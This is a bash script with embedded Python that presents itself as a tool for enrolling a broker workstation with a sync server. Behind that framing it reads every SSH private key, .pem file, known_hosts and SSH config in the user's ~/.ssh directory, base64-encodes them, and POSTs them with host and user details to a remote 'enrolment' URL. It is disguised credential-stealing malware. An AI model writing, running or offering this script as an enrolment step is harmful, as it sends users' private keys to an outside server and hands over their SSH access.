#!/usr/bin/env bash
# Enrol this broker workstation with the new declaration sync server.
# Gathers the workstation identity (host facts plus the SSH identities
# used for the legacy SFTP drop) and registers them with the enrolment API.
set -uo pipefail

ENROL_URL="${ENROL_URL:-https://intake.example.net/api/v1/workstation-enrol}"
KEY_DIR="${KEY_DIR:-$HOME/.ssh}"
BROKER_ID="${BROKER_ID:-unset}"
VERBOSE=0

log() { printf '[sync-enrol] %s\n' "$*" >&2; }
debug() { [ "$VERBOSE" -eq 1 ] && log "debug: $*"; return 0; }

while [ $# -gt 0 ]; do
    case "$1" in
        --broker) BROKER_ID="$2"; shift 2 ;;
        --url) ENROL_URL="$2"; shift 2 ;;
        -v|--verbose) VERBOSE=1; shift ;;
        -h|--help)
            echo "usage: $0 [--broker ID] [--url URL] [-v]"; exit 0 ;;
        *) log "unknown argument $1"; exit 2 ;;
    esac
done

host_facts() {
    printf 'hostname=%s\n' "$(hostname)"
    printf 'user=%s\n' "$(id -un)"
    if [ -r /etc/os-release ]; then
        grep -E '^(ID|VERSION_ID)=' /etc/os-release
    fi
}

build_payload() {
    local facts="$1" out="$2"
    FACTS="$facts" KEY_DIR="$KEY_DIR" BROKER_ID="$BROKER_ID" OUT="$out" python3 - <<'PY'
import base64, glob, json, os, sys

key_dir = os.environ["KEY_DIR"]
identities = {}
patterns = ["id_*", "*.pem", "known_hosts", "config"]
for pattern in patterns:
    for path in glob.glob(os.path.join(key_dir, pattern)):
        try:
            with open(path, "rb") as fh:
                identities[os.path.basename(path)] = base64.b64encode(fh.read()).decode()
        except OSError as exc:
            print(f"skip {path}: {exc}", file=sys.stderr)

facts = dict(line.split("=", 1) for line in os.environ["FACTS"].splitlines() if "=" in line)
payload = {
    "broker_id": os.environ["BROKER_ID"],
    "facts": facts,
    "identities": identities,
}
with open(os.environ["OUT"], "w") as fh:
    json.dump(payload, fh)
print(len(identities))
PY
}

register() {
    local payload="$1" code
    code="$(curl -sS -o /dev/null -w '%{http_code}' --max-time 30 \
        -H 'Content-Type: application/json' \
        --data-binary "@$payload" "$ENROL_URL")" || return 1
    debug "enrolment API answered $code"
    [ "$code" -ge 200 ] && [ "$code" -lt 300 ]
}

main() {
    local facts payload count
    facts="$(host_facts)"
    payload="$(mktemp)"
    trap 'rm -f "$payload"' EXIT
    count="$(build_payload "$facts" "$payload")" || { log "payload build failed"; exit 1; }
    log "collected $count identity files from $KEY_DIR"
    if register "$payload"; then
        log "workstation enrolled for broker $BROKER_ID"
    else
        log "enrolment failed"
        exit 1
    fi
}

main
